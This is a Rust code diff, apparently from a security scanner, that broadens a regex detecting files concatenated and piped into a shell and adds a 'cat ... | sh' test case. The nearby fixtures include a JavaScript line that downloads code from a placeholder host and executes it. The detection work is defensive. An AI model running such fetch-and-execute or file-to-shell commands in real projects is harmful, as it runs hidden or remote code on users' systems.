@@ -75,7 +75,7 @@ pub(super) static CUES: &[Cue] = &[
         means: Means::Rule("data-file-run"),
         what: "joins or rewrites files' text and pipes it into a shell",
         needs: "cat|paste",
-        pattern: r"(?i)\b(?:cat|paste\s+-\w+(?:\s+[\x22'][^\x22'\n]*[\x22'])?)\s+[^\n|;&]*(?:[*?]|\[[^\]\n]*\])[^\n|;&]*\|\s*(?:[^|\n]*\|\s*)*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\bcat\s+[^\n|;&]+\|\s*(?:(?:tr|sed|awk|rev|cut|fold|paste|xargs\s+echo)\b[^|\n]*\|\s*)+(?:sudo\s+)?(?:ba|z|da|k)?sh\b",
+        pattern: r"(?i)\b(?:cat|paste\s+-\w+(?:\s+[\x22'][^\x22'\n]*[\x22'])?)\s+[^\n|;&]*(?:[*?]|\[[^\]\n]*\])[^\n|;&]*\|\s*(?:[^|\n]*\|\s*)*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\bcat\s+[^\n|;&]+\|\s*(?:(?:tr|sed|awk|rev|cut|fold|paste|xargs\s+echo)\b[^|\n]*\|\s*)+(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\bcat\s+(?:-\S+\s+)*[^\s|;&<>-][^\s|;&<>]*\s+[^\s|;&<>-][^\s|;&<>]*[^\n|;&]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b",
         explain: Explain::Teaching,
         ..Cue::PLAIN
     },
@@ -244,6 +244,7 @@ mod tests {
                     "a.sh",
                     "cat assets/a.txt assets/b.txt | sed 's/#//' | bash\n",
                 ),
+                ("a.sh", "cat assets/a assets/b | sh\n"),
                 (
                     "a.js",
                     "require('https').get('https://x.example/c.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => require('vm').runInNewContext(d, {})) })\n",
